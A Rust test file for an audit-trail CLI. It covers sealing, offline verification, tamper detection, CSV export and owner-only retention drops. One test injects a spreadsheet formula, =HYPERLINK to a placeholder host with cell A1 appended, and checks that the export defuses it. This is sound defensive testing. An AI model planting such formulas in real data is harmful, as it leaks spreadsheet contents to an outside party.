//! `audit`: what auditors take away, and what of it is dropped in the end.

use serde_json::Value;
use twofactor_testkit::{Institution, Role, World};

use crate::{RunOutput, ctl};

async fn run(world: &World, role: Role, arguments: &[&str]) -> RunOutput {
    let url = world.database.url(role);
    ctl(&[("DATABASE_URL", &url)], arguments).await
}

#[tokio::test(flavor = "multi_thread")]
async fn an_export_is_verified_without_a_database_and_a_changed_row_is_found() {
    let world = World::start().await.expect("a world");
    let institution = Institution::strict(&world.crm).await.expect("a policy");
    let person = institution.person();
    person.set_up_totp(&world.crm).await.expect("an app");
    world
        .crm
        .ask(&person.reset("lost, \"stolen\""))
        .await
        .expect("an outcome");

    let sealed = run(&world, Role::Owner, &["audit", "seal", "--json"])
        .await
        .object(0);
    assert!(sealed["rows"].as_i64() > Some(3));
    let said = run(&world, Role::Auditor, &["audit", "verify", "--json"])
        .await
        .object(0);
    assert_eq!(said["first_wrong"], Value::Null);

    let export = run(&world, Role::Auditor, &["audit", "export"]).await;
    assert_eq!(export.code, 0, "{}", export.err);
    let file = world.folder().join("trail.jsonl");
    let path = file.display().to_string();
    std::fs::write(&file, &export.out).expect("a file");
    let said = ctl(&[], &["audit", "verify", &path, "--json"])
        .await
        .object(0);
    assert!(said["rows"].as_i64() >= sealed["rows"].as_i64());
    // With --json a line stands before the rows, which are as they were sealed.
    let objects = run(&world, Role::Auditor, &["audit", "export", "--json"]).await;
    let (head, rows) = objects.out.split_once('\n').expect("lines");
    assert_eq!(
        (head, rows),
        (r#"{"log":"export","schema":1}"#, export.out.as_str())
    );
    std::fs::write(&file, &objects.out).expect("a file");
    let again = ctl(&[], &["audit", "verify", &path, "--json"]).await;
    assert_eq!(again.object(0), said);
    let both = ["audit", "export", "--json", "--format", "csv"];
    assert_eq!(run(&world, Role::Auditor, &both).await.code, 2);
    std::fs::write(&file, export.out.replace("stolen", "sold")).expect("a file");
    let said = ctl(&[], &["audit", "verify", &path, "--json"])
        .await
        .object(1);
    assert_eq!(said["first_wrong"], sealed["from_seq"]);

    let formula = r#"=HYPERLINK("http://x.example/?"&A1,"open")"#;
    let reset = world.crm.ask(&person.reset(formula)).await;
    reset.expect("an outcome");
    let csv = ["audit", "export", "--format", "csv", "--log", "reset"];
    let csv = run(&world, Role::Auditor, &csv).await;
    assert_eq!(csv.out.lines().count(), 3, "{}", csv.out);
    assert!(csv.out.contains("\"lost, \"\"stolen\"\"\""), "{}", csv.out);
    let as_text = format!(",\"'{}\",", formula.replace('"', "\"\""));
    assert!(csv.out.contains(&as_text), "{}", csv.out);
    let help = ctl(&[], &["audit", "export", "--help"]).await.out;
    assert!(help.contains("could take for a formula"), "{help}");
}

#[tokio::test]
async fn months_are_dropped_by_the_owner_alone() {
    let database = twofactor_testkit::Database::create().await;
    let owner = database.url(Role::Owner);
    let auditor = database.url(Role::Auditor);
    let run = async |url: &str, keep: &str, more: &[&str]| {
        let settings = [("DATABASE_URL", url), ("AUDIT_KEEP", keep)];
        ctl(&settings, &[&["audit", "drop", "--json"], more].concat()).await
    };
    let said = run(&owner, "400d", &[]).await.object(0);
    assert_eq!(
        (&said["months"], &said["keep_days"]),
        (&0.into(), &400.into())
    );
    let old = "insert into audit.login_log (recorded_at, outcome_id, outcome_type)
        select clock_timestamp() - days * interval '1 day', gen_random_uuid(), 'login.accepted.v1'
        from unnest(array[440, 460, 500, 500, 390]) as days";
    let client = database.connect(Role::Owner).await;
    client.execute(old, &[]).await.expect("the owner may");
    let said = run(&owner, "400d", &["--dry-run"]).await.object(1);
    assert_eq!((&said["rows"], &said["dropped"]), (&4.into(), &0.into()));
    let said = run(&owner, "400d", &[]).await;
    assert_eq!(
        (said.code, said.out.as_str()),
        (2, ""),
        "there is no terminal to ask on"
    );
    assert!(
        said.err
            .contains("4 rows of 3 months that ended over 400 days ago"),
        "{}",
        said.err
    );
    assert!(
        said.err
            .contains("from the trail of the database twofactor_test_"),
        "{}",
        said.err
    );
    let said = run(&owner, "soon", &["--yes"]).await;
    assert!(
        said.code == 2 && said.err.contains("AUDIT_KEEP"),
        "{}",
        said.err
    );
    assert_eq!(run(&auditor, "400d", &["--yes"]).await.code, 4);
    let said = run(&owner, "400d", &["--yes"]).await.object(0);
    assert_eq!((&said["rows"], &said["dropped"]), (&4.into(), &4.into()));
    let said = run(&owner, "400d", &["--yes"]).await.object(0);
    assert_eq!((&said["months"], &said["dropped"]), (&0.into(), &0.into()));
}
